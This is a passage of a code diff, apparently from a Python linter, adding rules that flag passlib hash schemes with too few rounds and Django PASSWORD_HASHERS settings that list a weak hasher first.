+        _MIN_BCRYPT_ROUNDS
+        if scheme.startswith("bcrypt")
+        else _MIN_PBKDF2_ITERATIONS
+        if scheme.startswith("pbkdf2")
+        else None
+    )
+    if minimum is not None and rounds < minimum:
+        ctx.report(
+            node,
+            f"{scheme}.using(rounds={rounds}) is far below the safe minimum ({minimum:,}): "
+            "leaked hashes are brute-forced quickly. Keep passlib's default rounds or raise them",
+        )
+
+
+def _django_hashers(node: ast.Assign, ctx: PythonContext) -> None:
+    if ctx.function is not None or ctx.classes:
+        return
+    if not any(isinstance(t, ast.Name) and t.id == "PASSWORD_HASHERS" for t in node.targets):
+        return
+    path = ctx.path.lower()
+    if "settings" not in path and not path.endswith(("config.py", "conf.py")):
+        return
+    if _dev_settings_file(ctx.path):
+        return
+    hashers = _strings(node.value, ctx)
+    if not hashers:
+        return
+    first = hashers[0].rsplit(".", 1)[-1]
+    if first in _WEAK_DJANGO_HASHERS:
+        ctx.report(
+            node,
+            f"PASSWORD_HASHERS starts with {first}: Django hashes every new and changed "
+            "password with it, and a leaked user table is cracked in hours. Put "
+            "Argon2PasswordHasher or PBKDF2PasswordHasher first",
+        )
